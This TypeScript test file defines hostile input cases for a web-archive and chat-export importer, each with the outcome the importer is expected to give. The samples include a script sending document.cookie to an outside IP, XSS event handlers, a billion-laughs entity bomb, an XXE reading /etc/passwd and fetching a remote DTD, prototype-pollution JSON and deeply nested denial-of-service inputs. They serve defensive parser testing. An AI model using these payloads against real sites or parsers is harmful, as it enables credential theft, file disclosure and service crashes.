import { makeHar } from '../../readers/made/captures.ts';
import { answer, makeWarc, record } from '../../readers/made/web-archives.ts';
import { anything, type HostileCase, needle, read, rejected, warned } from './hostile-case.ts';

const page = (body: string, head = ''): string =>
  `<!DOCTYPE html><html><head>${head}</head><body>${body}</body></html>`;

const laughs = (root: string): string =>
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "${needle}">${'bcdefghij'
    .split('')
    .map((name, n) => `<!ENTITY ${name} "${`&${'abcdefghij'[n]};`.repeat(10)}">`)
    .join('')}]>${root}`;

export const hostilePages: readonly HostileCase[] = [
  {
    name: 'script.html',
    content: page(`${needle}<script>new Image().src="http://203.0.113.9/?"+document.cookie</script>`),
    outcome: warned,
    says: /script/,
  },
  {
    name: 'handlers.html',
    content: page(`<p onclick="x()">${needle}</p><img src=x onerror=alert(1)><svg onload=alert(1)>`),
    outcome: read,
  },
  {
    name: 'remote.html',
    content: page(
      `${needle}<iframe src="http://203.0.113.9/"></iframe><object data="http://203.0.113.9/x"></object>`,
      '<base href="http://203.0.113.9/"><link rel="stylesheet" href="a.css"><meta http-equiv="refresh" content="0;url=http://203.0.113.9/">',
    ),
    outcome: read,
  },
  { name: 'divs-100000-deep.html', content: page(`${'<div>'.repeat(100_000)}${needle}`), outcome: anything },
  { name: 'tables-in-tables.html', content: page(`${'<table><tr><td>'.repeat(5000)}${needle}`), outcome: anything },
  {
    name: 'attributes-without-end.html',
    content: page(`<p ${Array.from({ length: 50_000 }, (_, n) => `a${n}=1`).join(' ')}>${needle}</p>`),
    outcome: anything,
  },
  {
    name: 'frames-in-frames.html',
    content: page(
      Array.from({ length: 40 }).reduce<string>(
        (inner) =>
          `<iframe srcdoc="${inner.replaceAll('&', '&amp;').replaceAll('"', '&quot;').slice(0, 200_000)}"></iframe>`,
        needle,
      ),
    ),
    outcome: anything,
  },
  {
    name: 'hidden-words.html',
    content: page(`<p>seen</p><p style="display:none">${needle}</p>`),
    outcome: warned,
    says: /would not show/,
  },
  {
    name: 'not-html-at-all.html',
    content: Buffer.from(Array.from({ length: 4000 }, (_, n) => (n * 7919) % 256)),
    outcome: anything,
  },
  {
    name: 'wrong-letters.html',
    content: Buffer.concat([
      Buffer.from('<meta charset=utf-16><p>'),
      Buffer.from([0xff, 0xfe, 0xd8, 0x00]),
      Buffer.from(needle),
    ]),
    outcome: anything,
  },
  {
    name: 'data-picture.html',
    content: page(`${needle}<img src="data:image/png;base64,${'A'.repeat(60_000)}">`),
    outcome: read,
  },
  { name: 'billion-laughs.xml', content: laughs('<x>&j;</x>'), outcome: read },
  {
    name: 'billion-laughs-of-messages.xml',
    content: laughs('<smses count="1"><sms address="1" date="1773153720000" type="1" body="&j;"/></smses>'),
    outcome: anything,
  },
  {
    name: 'outside-entity.xml',
    content: `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY % r SYSTEM "http://203.0.113.9/x.dtd">%r;]><smses count="1"><sms address="1" date="1773153720000" type="1" body="&f; ${needle}"/></smses>`,
    outcome: anything,
  },
  { name: 'tags-20000-deep.xml', content: `<smses count="1">${'<a>'.repeat(20_000)}${needle}`, outcome: anything },
  {
    name: 'picture-with-script.svg',
    content: `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><image href="http://203.0.113.9/x.png"/><text>${needle}</text></svg>`,
    outcome: read,
  },
  {
    name: 'record-of-9-gb.warc',
    content: `WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: http://a.example/\r\nContent-Type: application/http\r\nContent-Length: 9000000000\r\n\r\n${needle}`,
    outcome: anything,
  },
  {
    name: 'chunk-of-4-gb.warc',
    content: makeWarc([
      record({
        type: 'response',
        url: 'http://a.example/',
        content: answer(`ffffffff\r\n<p>${needle}</p>`, ['Content-Type: text/html', 'Transfer-Encoding: chunked']),
      }),
    ]),
    outcome: anything,
  },
  {
    name: 'no-records.warc',
    content: `WARC/1.0\r\n${'X: y\r\n'.repeat(20_000)}`,
    outcome: ['rejected', 'imported-with-warnings'],
  },
  { name: 'secrets.har', content: makeHar(), outcome: warned, says: /password|token|cookie/i },
  { name: 'json-100000-deep.json', content: `${'['.repeat(100_000)}1${']'.repeat(100_000)}`, outcome: anything },
  {
    name: 'json-with-prototype.json',
    content: `{"__proto__":{"polluted":"${needle}"},"constructor":{"prototype":{"polluted":1}},"participants":[{"name":"a"}],"messages":[{"sender_name":"__proto__","timestamp_ms":1,"content":"${needle}"}]}`,
    outcome: anything,
  },
  {
    name: 'json-cut.json',
    content: `{"participants":[{"name":"a"}],"messages":[{"sender_name":"a","timestamp_ms":1773153720000,"content":"${needle}"},{"send`,
    outcome: anything,
  },
  {
    name: 'numbers-too-large.json',
    content: `{"participants":[{"name":"a"}],"messages":[{"sender_name":"a","timestamp_ms":1e999,"content":"${needle}"},{"sender_name":"a","timestamp_ms":-8e15,"content":"b"}]}`,
    outcome: anything,
  },
  {
    name: 'archive-of-x.js',
    content: `window.YTD.tweets.part0 = (function(){ require("fs").writeFileSync("/var/evenhand-slip.txt","${needle}") })()`,
    outcome: anything,
  },
  { name: 'empty.html', content: '', outcome: rejected, says: /empty/ },
];
